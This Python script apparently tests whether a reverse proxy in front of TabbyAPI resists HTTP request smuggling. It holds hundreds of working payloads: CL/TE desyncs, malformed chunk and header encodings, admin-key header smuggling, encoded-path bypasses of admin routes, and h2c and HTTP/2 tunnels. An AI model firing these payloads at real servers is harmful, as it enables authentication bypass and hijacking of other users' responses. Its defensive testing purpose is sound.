"""What an attacker says to a front, to the byte: `python attacks.py HOST PORT` says all of it.

Each tries to have TabbyAPI hear a request that the front did not see as one, a key of the
caller's, or a route that asks for the admin key. `HIDDEN` does all three. The standard library
alone, so that it runs on any machine.
"""

from __future__ import annotations

import contextlib
import socket
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

ADMIN = b"7d793037a0760186574b0282f2f435e7"
"""The admin key, which callers know and the front is to keep from TabbyAPI."""
_BODY = b"Content-Length: 2\r\n\r\n{}"
HIDDEN = b"POST /v1/model/load HTTP/1.1\r\nHost: x\r\nX-Admin-Key: " + ADMIN + b"\r\n" + _BODY
TRAILER = b"X-Admin-Key: " + ADMIN + b"\r\nAuthorization: Bearer " + ADMIN + b"\r\n"
LAST = b"GET /v1/models HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
Attacks = Iterator[tuple[str, bytes]]


def asking(
    target: bytes, *lines: bytes, method: bytes = b"POST", version: bytes = b"HTTP/1.1"
) -> bytes:
    """The head of a request, without the empty line that ends it."""
    first = b"%b %b %b" % (method, target, version)
    return b"\r\n".join((first, b"Host: x", *lines)) + b"\r\n"


def _framed() -> Attacks:
    """Two ways to tell where a request ends."""
    chunked = b"0\r\n\r\n" + HIDDEN
    short = b"%x\r\n%b\r\n0\r\n\r\n" % (len(HIDDEN), HIDDEN)
    both = {
        "CL.TE": (b"Content-Length: %d" % len(chunked), b"Transfer-Encoding: chunked"),
        "TE.CL": (b"Transfer-Encoding: chunked", b"Content-Length: %d" % len(chunked)),
        "CL 0, TE": (b"Content-Length: 0", b"Transfer-Encoding: chunked"),
        "CL 3, TE": (b"Content-Length: 3", b"Transfer-Encoding: chunked"),
    }
    for name, lines in both.items():
        yield name, asking(b"/v1/completions", *lines) + b"\r\n" + chunked
        yield f"{name}, in a chunk", asking(b"/v1/completions", *lines) + b"\r\n" + short
    for line in (
        b"Transfer-Encoding: xchunked", b"Transfer-Encoding : chunked",
        b"Transfer-Encoding:\tchunked", b"Transfer-Encoding:\x0bchunked",
        b"Transfer-Encoding:\x00chunked", b"Transfer-Encoding: chunked\x0c",
        b" Transfer-Encoding: chunked", b"X: y\nTransfer-Encoding: chunked",
        b"X: y\rTransfer-Encoding: chunked", b"Transfer-Encoding\r\n : chunked",
        b"Transfer-Encoding:\r\n chunked", b"Transfer-Encoding: identity, chunked",
        b"Transfer-Encoding: chunked, identity", b"Transfer-Encoding: chunked, chunked",
        b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
        b"Transfer-Encoding: identity\r\nTransfer-Encoding: chunked",
        b"Transfer-Encoding: gzip, chunked", b"Transfer-Encoding: CHUNKED",
        b"Transfer-Encoding: \"chunked\"", b"Transfer-Encoding: chunked;q=1", b"TE: chunked",
        b"Transfer_Encoding: chunked", b"Transfer-Encoding:", b"Transfer-Encoding: chunke\xe4",
    ):  # fmt: skip
        size = b"Content-Length: %d" % len(chunked)
        for *told, body in (size, line, chunked), (line, chunked), (line, size, short):
            yield f"TE.TE {told!r}", asking(b"/v1/completions", *told) + b"\r\n" + body


def _lengths() -> Attacks:
    """Lengths that one reads and another does not."""
    for value in (
        b"+0", b"-1", b"0x0", b"00", b"0 0", b"0,0", b"0, 5", b"5, 0", b"", b"0\x00", b"\x0b0",
        b"0.0", b"1e1", b"4294967296", b"18446744073709551616", b"9" * 400, b"0;", b"\xb2",
    ):  # fmt: skip
        yield (
            f"CL {value[:20]!r}",
            asking(b"/v1/models", b"Content-Length: " + value) + (b"\r\n" + HIDDEN),
        )
    for lines in (
        (b"Content-Length: 0", b"Content-Length: %d" % len(HIDDEN)),
        (b"Content-Length: %d" % len(HIDDEN), b"Content-Length: 0"),
        (b"Content-Length: 0", b"Content_Length: %d" % len(HIDDEN)),
        (b"Content-Length : %d" % len(HIDDEN),),
        (b"Content-Length\x00: %d" % len(HIDDEN),),
        (b"X: y\r\n Content-Length: %d" % len(HIDDEN),),
        (b"Content-Length:\r\n %d" % len(HIDDEN),),
        (b"Connection: Content-Length", b"Content-Length: %d" % len(HIDDEN)),
        (b"Connection: close, Content-Length", b"Content-Length: %d" % len(HIDDEN)),
        (b"Connection: Transfer-Encoding", b"Transfer-Encoding: chunked"),
        (b"Expect: 100-continue", b"Content-Length: %d" % len(HIDDEN)),
        (b"Expect: 100-continue, x", b"Content-Length: %d" % len(HIDDEN)),
        (b"Expect: x", b"Content-Length: %d" % len(HIDDEN)),
    ):
        for method in (b"POST", b"GET", b"HEAD", b"DELETE", b"OPTIONS", b"TRACE"):
            head = asking(b"/v1/models", *lines, method=method)
            yield f"CL {method!r} {lines!r}", head + b"\r\n" + HIDDEN


def _chunked() -> Attacks:
    """Chunks that one reads and another does not."""
    head = asking(b"/v1/completions", b"Transfer-Encoding: chunked") + b"\r\n"
    length = b"%x" % len(HIDDEN)
    for name, body in {
        "extension": b"2;x=y\r\n{}\r\n0\r\n\r\n",
        "extension with LF": b"2;x\n%b\r\n{}\r\n0\r\n\r\n" % length,
        "extension with CR": b"2;x\r%b\r\n{}\r\n0\r\n\r\n" % length,
        "quoted extension with CRLF": b'2;x="\r\n{}\r\n0\r\n\r\n' + HIDDEN + b'"\r\n',
        "endless extension": b"2;" + b"x" * 70000 + b"\r\n{}\r\n0\r\n\r\n",
        "bare LF after size": b"2\n{}\r\n0\r\n\r\n",
        "bare LF after data": b"2\r\n{}\n0\r\n\r\n",
        "bare CR after size": b"2\r{}\r\n0\r\n\r\n",
        "bare CR after data": b"2\r\n{}\r0\r\n\r\n",
        "no end of data": b"2\r\n{}0\r\n\r\n",
        "two of anything for an end": b"2\r\n{}xx0\r\n\r\n",
        "LF ends all": b"2\n{}\n0\n\n",
        "trailer with length": b"2\r\n{}\r\n0\r\nContent-Length: %d\r\n\r\n" % len(HIDDEN),
        "trailer with bare LF": b"2\r\n{}\r\n0\r\nX: y\n\n" + HIDDEN + b"\r\n",
        "LF in the last": b"2\r\n{}\r\n0\n\r\n",
        "lone CR ends": b"2\r\n{}\r\n0\r\n\rX",
    }.items():
        yield f"chunk {name}", head + body + HIDDEN
    for names in (b"x", b"X-Admin-Key, Authorization", b"X-Admin-Key\r\nTrailer: Authorization"):
        told = asking(b"/v1/completions", b"Transfer-Encoding: chunked", b"Trailer: " + names)
        yield f"key in a trailer {names!r}", told + b"\r\n2\r\n{}\r\n0\r\n" + TRAILER + b"\r\n"
    for size in (
        b"0x2", b"+2", b"-2", b"0_2", b"2 ", b" 2", b"", b"10000000000000002", b"f" * 40,
    ):  # fmt: skip
        yield f"chunk of {size!r}", head + size + b"\r\n{}\r\n0\r\n\r\n" + HIDDEN
    yield "chunked in HTTP/1.0", (
        asking(b"/v1/completions", b"Transfer-Encoding: chunked", b"Connection: keep-alive",
               version=b"HTTP/1.0") + b"\r\n0\r\n\r\n" + HIDDEN
    )  # fmt: skip


def _keys() -> Attacks:
    """A key of the caller's, by every name."""
    for name in (
        b"Authorization", b"authorization", b"AUTHORIZATION", b"Authorization ", b" Authorization",
        b"Authorization\t", b"Author\x00ization", b"X: y\nAuthorization", b"X: y\rAuthorization",
        b"Proxy-Connection: x\r\nAuthorization", b"Authorization: Bearer x\r\nAuthorization",
        b"Authorization:\r\n x\r\nAuthorization", b":Authorization", b"Authorization:",
        b"X-API-Key", b"x-api-key", b"X-Api-Key ", b"X_API_KEY", b"X-API_Key",
        b"X-Admin-Key", b"x-admin-key", b"X-ADMIN-KEY", b"X_Admin_Key", b"x_admin-key",
        b"X-Admin-Key\x0b", b"X: y\nX-Admin-Key", b"X: y\rX-Admin-Key", b"X: y\r\n X-Admin-Key",
        b"X: y\x00\r\nX-Admin-Key", b"X-Admin-Key: x\r\nX-Admin-Key", b"\r\nX-Admin-Key",
        b": x\r\nX-Admin-Key", b"X\r\nX-Admin-Key", b"X-Admin-Key\xad", b"X-Admin-\xffKey",
    ):  # fmt: skip
        for value in (ADMIN, b"Bearer " + ADMIN):
            head = asking(b"/v1/models", name + b": " + value, method=b"GET")
            yield f"key {name!r} {value[:6]!r}", head + b"\r\n"
    for named in (
        b"Authorization", b"authorization, close", b"keep-alive, Authorization", b"X-Api-Key",
        b"close\r\nConnection: Authorization", b"Host", b"Content-Length, Authorization",
    ):  # fmt: skip
        for field in (b"Connection", b"Proxy-Connection", b"Keep-Alive", b"TE", b"Trailer"):
            lines = (field + b": " + named, b"Authorization: Bearer " + ADMIN, b"X-Admin-Key: x")
            yield f"{field!r} {named!r}", asking(b"/v1/models", *lines, method=b"GET") + b"\r\n"


TARGETS = (
    b"/v1/model/load", b"//v1/model/load", b"/v1//model///load", b"/v1/model/load/",
    b"/v1/model/load//", b"/v1/../v1/model/load", b"/v1/x/../model/load", b"/./v1/model/load",
    b"/v1/model/./load", b"/v1/model/load/.", b"/v1/model/load/..", b"/v1/model/x/../load",
    b"/v1/model/load/x/..", b"/v1/model/%2e/load", b"/%2e%2e/v1/model/load", b"/v1%2fmodel%2fload",
    b"/v1%2Fmodel/load", b"%2fv1/model/load", b"/v1/model/%6c%6f%61%64", b"/v1/model/loa%64",
    b"/v1/model/%256coad", b"/v1/model/load%00", b"/v1/model/load%0a", b"/v1/model/load%0d",
    b"/v1/model/load%20", b"/v1/model/load%09", b"/v1/model/load%2f", b"/v1/model/load%23",
    b"/v1/model/load%23x", b"/v1/model/load%3f", b"/v1/model/load%3fx", b"/v1/model/load%3b",
    b"/v1/model/load;x", b"/v1/model/load;", b"/v1/model;x/load", b"/v1/model/load?", b"/v1/x#",
    b"/v1/model/load?x", b"/v1/model/load?x=/v1/models", b"/v1/model/load#", b"/v1/model/load#x",
    b"/v1/model/load#%zz", b"/v1/model/load?%zz", b"/v1/model/load%zz", b"/v1/model/load#%",
    b"/v1/model/load#?x", b"/v1/model/load?#x", b"/v1/model/load#/../../models",
    b"#/v1/model/load", b"/v1/model/load?/../../models", b"/v1/models?/../model/load",
    b"/v1/model\\load", b"/v1/model/%5cload", b"\\v1\\model\\load", b"/V1/MODEL/LOAD",
    b"/v1/model/LOAD", b"http://x/v1/model/load", b"HTTP://x/v1/model/load",
    b"http://x//v1/model/load", b"http:///v1/model/load", b"http:/v1/model/load",
    b"http:v1/model/load", b"//x/v1/model/load", b"http://x:80/v1/model/load",
    b"http://u:p@x/v1/model/load", b"https://x/v1/model/load", b"http://x#/v1/model/load",
    b"http://x/v1/model/load#x", b"http://x/v1/model/load#%zz", b"http://x?/v1/model/load",
    b"http://127.0.0.1:5000/v1/model/load", b"ftp://x/v1/model/load", b"x:/v1/model/load",
    b"v1/model/load", b"*", b"*/v1/model/load", b"@x/v1/model/load", b"x:80",
    b"x:80/v1/model/load", b"/v1/model/load\x00", b"/v1/model/load\t", b"/v1/model/load\xa0",
    b"/v1/model/load\x0b", b"/\x00/v1/model/load", b"/v1/model/load HTTP/1.1 x",
    b" /v1/model/load", b"/v1/model/load\r", b"/v1/model/l\xc3\xb6ad", b"/v1/model/%c5%bfoad",
    b"/v1/model/%ef%bd%8coad", b"/v1/model/loa%c0%a4", b"/v1/model/unload",
    b"/v1/model/embedding/load", b"/v1/download", b"/v1/model/embedding/unload#", b"/v1/lora/load",
    b"/v1/lora/unload", b"/v1/template/switch", b"/v1/template/unload",
    b"/v1/sampling/override/switch", b"/v1/sampling/override/unload",
)  # fmt: skip


def _routes() -> Attacks:
    """The routes that ask for the admin key, by every spelling."""
    key = b"X-Admin-Key: " + ADMIN
    for target in TARGETS:
        for method in (b"POST", b"OPTIONS", b"CONNECT", b"post", b"PUT", b"POST\x0b"):
            head = asking(target, key, b"Content-Length: 2", method=method)
            yield f"{method!r} {target!r}", head + b"\r\n{}"
        for version in (b"HTTP/1.0", b"HTTP/1.2", b"HTTP/0.9", b"HTTP/2.0", b"http/1.1", b""):
            head = asking(target, key, b"Content-Length: 2", version=version)
            yield f"{target!r} {version!r}", head + b"\r\n{}"
        yield f"simple {target!r}", b"POST " + target + b"\r\n"
    over = (b"X-HTTP-Method-Override: POST", b"X-Original-URL: /v1/model/load",
            b"X-Rewrite-URL: /v1/model/load", b"X-Forwarded-Prefix: /v1/model/load")  # fmt: skip
    yield "override", asking(b"/v1/models", *over, method=b"GET") + b"\r\n"


def _switches() -> Attacks:
    """Other protocols, behind which anything may be said."""
    for protocol in (b"websocket", b"h2c", b"TLS/1.0", b"x", b"websocket, h2c", b"HTTP/2.0"):
        for connection in (b"Upgrade", b"upgrade, HTTP2-Settings", b"keep-alive, Upgrade", b"x"):
            lines = [b"Connection: " + connection, b"Upgrade: " + protocol]
            for version in (b"13", b"777"):
                more = [b"Sec-WebSocket-Version: " + version, b"HTTP2-Settings: AAMAAABkAAQAAP__"]
                more += [b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ=="]
                head = asking(b"/v1/models", *lines, *more, method=b"GET")
                yield f"switch {protocol!r} {connection!r} {version!r}", head + b"\r\n" + HIDDEN
    for target in (b"x:80", b"127.0.0.1:5000", b"/v1/models", b"*", b"http://x/v1/models"):
        yield f"tunnel {target!r}", asking(target, method=b"CONNECT") + b"\r\n" + HIDDEN
    for path in (
        b"/v1/models",
        b"/v1/model/load",
        b"/v1/model/load#x",
        b"/v1/models HTTP/1.1\r\nX: y",
    ):
        yield f"HTTP/2 {path!r}", _http2((b":path", path))
        yield f"HTTP/2 {path!r} with a length", _http2((b":path", path), (b"content-length", b"0"))
        yield (
            f"HTTP/2 {path!r} chunked",
            _http2((b":path", path), (b"transfer-encoding", b"chunked")),
        )
        yield f"HTTP/2 {path!r} LF", _http2((b":path", path), (b"x", b"y\r\nX-Admin-Key: " + ADMIN))
        yield f"HTTP/2 {path!r} key", _http2((b":path", path), (b"x-admin-key", ADMIN))


def _http2(*fields: tuple[bytes, bytes]) -> bytes:
    """A request in HTTP/2, without asking whether it is understood (RFC 9113, RFC 7541)."""
    every = ((b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"x"), *fields)
    block = b"".join(b"\0%c%b%c%b" % (len(name), name, len(value), value) for name, value in every)
    frames = (4, 0, 0, b""), (1, 4, 1, block), (0, 1, 1, HIDDEN)
    told = b"".join(
        len(load).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + load
        for kind, flags, stream, load in frames
    )
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + told


def _lines() -> Attacks:
    """Lines that end otherwise than in CRLF."""
    whole = asking(b"/v1/models", method=b"GET")
    key = b"X-Admin-Key: " + ADMIN
    for name, end in {"LF": b"\n", "CR": b"\r", "CRCRLF": b"\r\r\n", "LFCR": b"\n\r"}.items():
        yield f"lines {name}", (whole + key + b"\r\n\r\n").replace(b"\r\n", end)
        yield f"empty line {name}", whole + end + HIDDEN
        yield f"before {name}", end + whole + b"\r\n"
        yield f"first line {name}", whole.replace(b"\r\n", end, 1) + key + b"\r\n\r\n"
        yield f"value {name}", whole + b"X: y" + end + key + b"\r\n\r\n"
    yield "two requests", whole + b"\r\n" + HIDDEN
    yield "a head of 1 MB", whole + b"X: " + b"y" * (1 << 20) + b"\r\n" + key + b"\r\n\r\n"
    yield "a thousand fields", whole + b"X: y\r\n" * 1000 + key + b"\r\n\r\n"
    yield "two hosts", whole + b"Host: y/v1/model/load\r\n" + key + b"\r\n\r\n"
    yield "a host with a path", b"GET /v1/models HTTP/1.1\r\nHost: x/v1/model/load?\r\n\r\n"
    yield "no host", b"GET /v1/models HTTP/1.1\r\n" + key + b"\r\n\r\n"


def attacks() -> dict[str, bytes]:
    """Name -> what is said."""
    kinds = (_framed, _lengths, _chunked, _keys, _routes, _switches, _lines)
    return {name: said for kind in kinds for name, said in kind()}


def say(host: str, port: int, said: bytes) -> bytes:
    """Says it on one connection, a last request behind it, and gives what came back."""
    came = b""
    connection = socket.create_connection((host, port), 2)  # seconds that a front may be silent
    with connection, contextlib.suppress(OSError):
        connection.sendall(said + LAST)
        while part := connection.recv(65536):
            came += part
    return came


def say_all(host: str, port: int, every: dict[str, bytes]) -> dict[str, bytes]:
    """Says each, many at once; beside each an honest request, which has to be answered as such.

    Raises AssertionError where an honest caller gets another's answer.
    """
    with ThreadPoolExecutor(32) as pool:
        return dict(pool.map(lambda one: (one[0], _beside(host, port, *one)), every.items()))


def _beside(host: str, port: int, name: str, said: bytes) -> bytes:
    came = say(host, port, said)
    own = f"/v1/models?{abs(hash(name))}".encode()
    with socket.create_connection((host, port), 30) as connection:
        connection.sendall(LAST.replace(b"/v1/models", own))
        answer = b"".join(iter(lambda: connection.recv(65536), b""))
    assert answer.startswith(b"HTTP/1.1 200 "), (name, answer)
    assert b"GET %b HTTP/1.1" % own in answer, (name, answer)
    return came


if __name__ == "__main__":
    say_all(sys.argv[1], int(sys.argv[2]), attacks())
